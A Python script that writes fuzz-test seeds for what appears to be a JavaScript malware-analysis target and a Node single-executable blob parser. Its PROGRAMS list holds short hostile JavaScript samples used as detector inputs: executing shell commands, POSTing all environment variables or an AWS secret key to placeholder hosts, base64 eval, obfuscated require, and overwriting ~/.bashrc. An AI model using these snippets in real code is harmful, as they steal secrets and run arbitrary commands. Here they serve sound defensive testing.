#!/usr/bin/env python3
"""Generate seeds for the js_analysis and node_sea fuzz targets.

js_analysis: the JavaScript/TypeScript files of the npm tarballs in the shared corpus (and the
repository's own test fixtures), each prefixed with the byte that selects its dialect in
fuzz_targets/js_analysis.rs, plus a few short programs that reach each behaviour rule.
node_sea: ELF-like files carrying a NODE_SEA_BLOB note with blobs laid out as Node writes them
(src/node_sea.cc, SeaSerializer::Write): main script only, with assets, with a code cache, a
snapshot, and one with a length past the end.

Usage: seed_js_sea.py OUT_DIR [CORPUS_DIR]   (writes OUT_DIR/js_analysis, OUT_DIR/node_sea)
Nothing is copied into the repository: OUT_DIR is outside it (e.g. /work/cache/fuzz-corpus).
"""
import hashlib
import io
import os
import struct
import sys
import tarfile
from pathlib import Path

# Must match NAMES in fuzz_targets/js_analysis.rs.
DIALECT = {".mjs": 0, ".cjs": 1, ".js": 2, ".ts": 3, ".tsx": 4, ".jsx": 5}
ZST = 6

PROGRAMS = [
    b"const cp = require('child_process'); cp.exec(process.env.CMD);",
    b"import { spawn } from 'node:child_process'; spawn('sh', ['-c', 'id']);",
    b"fetch('https://example.com/x', {method: 'POST', body: JSON.stringify(process.env)});",
    b"const k = process['en'+'v'].AWS_SECRET_ACCESS_KEY; require('https').request('https://a.invalid/'+k);",
    b"eval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString());",
    b"new Function(atob('cmV0dXJuIDE='))(); String.fromCharCode(114,101,113);",
    b"const fs = require('fs'); fs.writeFileSync(require('os').homedir() + '/.bashrc', 'x');",
    b"const r = require; const m = r(['child','process'].join('_')); m.execSync('id');",
    b"import('./x.mjs').then(m => m.default()); globalThis['ev'+'al']('1');",
    b"let s = `${'ht'}tps://${'evil'}.example/`; require('net').connect(443, s);",
    b"const u = '\\x68\\x74\\x74\\x70\\x73://a.invalid'; process.binding('spawn_sync');",
    b"#!/usr/bin/env node\nrequire('dns').lookup('x.invalid', () => {});",
]


def js_seeds(out: Path, corpus: Path, repo: Path) -> int:
    out.mkdir(parents=True, exist_ok=True)
    n = 0

    def put(sel: int, data: bytes, tag: str) -> None:
        nonlocal n
        name = hashlib.sha256(bytes([sel]) + data).hexdigest()[:16]
        (out / f"{tag}-{name}").write_bytes(bytes([sel]) + data)
        n += 1

    for i, p in enumerate(PROGRAMS):
        put(DIALECT[".cjs"] if i % 2 else DIALECT[".mjs"], p, "prog")
    put(DIALECT[".ts"], b"const x: number = 1; export function f<T>(a: T): T { return a; }", "prog")
    put(DIALECT[".tsx"], b"export const C = () => <div onClick={() => eval('1')}>x</div>;", "prog")
    tarballs = sorted(corpus.rglob("*.tgz")) if corpus.is_dir() else []
    for tgz in tarballs:
        if tgz.stat().st_size > 4 << 20:
            continue
        try:
            with tarfile.open(tgz, "r:gz") as t:
                for m in t.getmembers():
                    ext = os.path.splitext(m.name)[1]
                    if m.isfile() and ext in DIALECT and 0 < m.size <= 64 << 10:
                        f = t.extractfile(m)
                        if f is not None:
                            put(DIALECT[ext], f.read(), "npm")
        except (tarfile.TarError, OSError, EOFError):
            continue
    for f in sorted((repo / "tests").rglob("*")):
        ext = f.suffix
        if f.is_file() and ext in DIALECT and f.stat().st_size <= 64 << 10:
            put(DIALECT[ext], f.read_bytes(), "fixture")
    # A zstd frame, when the zstandard module is present (the .zst path of the target).
    try:
        import zstandard  # type: ignore

        put(ZST, zstandard.ZstdCompressor().compress(PROGRAMS[0]), "zst")
    except ImportError:
        pass
    return n


MAGIC = struct.pack("<I", 0x0143DA20)


def s(b: bytes) -> bytes:
    return struct.pack("<Q", len(b)) + b


def blob(code_path: bytes, code: bytes, flags: int = 0, assets=(), cache: bytes = b"") -> bytes:
    out = MAGIC + struct.pack("<I", flags) + s(code_path) + s(code)
    if flags & 4:
        out += s(cache)
    if flags & 8:
        out += struct.pack("<Q", len(assets))
        for k, v in assets:
            out += s(k) + s(v)
    return out


def exe(b: bytes) -> bytes:
    e = b"\x7fELF\x02\x01\x01\x00" + b"\x90" * 4088
    e += struct.pack("<III", 14, len(b), 0) + b"NODE_SEA_BLOB\x00\x00\x00"
    return e + b + b"\x00" * 64


def sea_seeds(out: Path) -> int:
    out.mkdir(parents=True, exist_ok=True)
    seeds = {
        "main": blob(b"/build/dist/index.js", PROGRAMS[0]),
        "assets": blob(b"index.cjs", PROGRAMS[2], 8, [(b"prompts/a.txt", b"https://api.example.com/"), (b"/x.mjs", PROGRAMS[1])]),
        "cache": blob(b"main.js", PROGRAMS[3], 4, cache=b"\x00" * 32),
        "snapshot": blob(b"snap", b"\x00" * 64, 2),
        "all": blob(b"C:\\app\\main.js", PROGRAMS[4], 0xE, [(b"a", b"b")], b"cc"),
    }
    past = bytearray(blob(b"m.js", b"1"))
    past[8 + 8 + 4 : 8 + 8 + 4 + 8] = struct.pack("<Q", 2**64 - 1)
    seeds["past-end"] = bytes(past)
    for name, b in seeds.items():
        (out / name).write_bytes(exe(b))
    (out / "bare-blob").write_bytes(b"NODE_SEA_BLOB" + seeds["main"])
    return len(seeds) + 1


def main() -> int:
    if len(sys.argv) < 2:
        print(__doc__)
        return 2
    out = Path(sys.argv[1])
    here = Path(__file__).resolve().parent
    repo = here.parent
    corpus = Path(sys.argv[2]) if len(sys.argv) > 2 else Path(os.environ.get("VETTED_CORPUS", repo.parent / "shared/corpus"))
    if not corpus.is_dir():
        corpus = Path("/work/shared/corpus")
    nj = js_seeds(out / "js_analysis", corpus, repo)
    ns = sea_seeds(out / "node_sea")
    print(f"seeded: js_analysis={nj} node_sea={ns}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
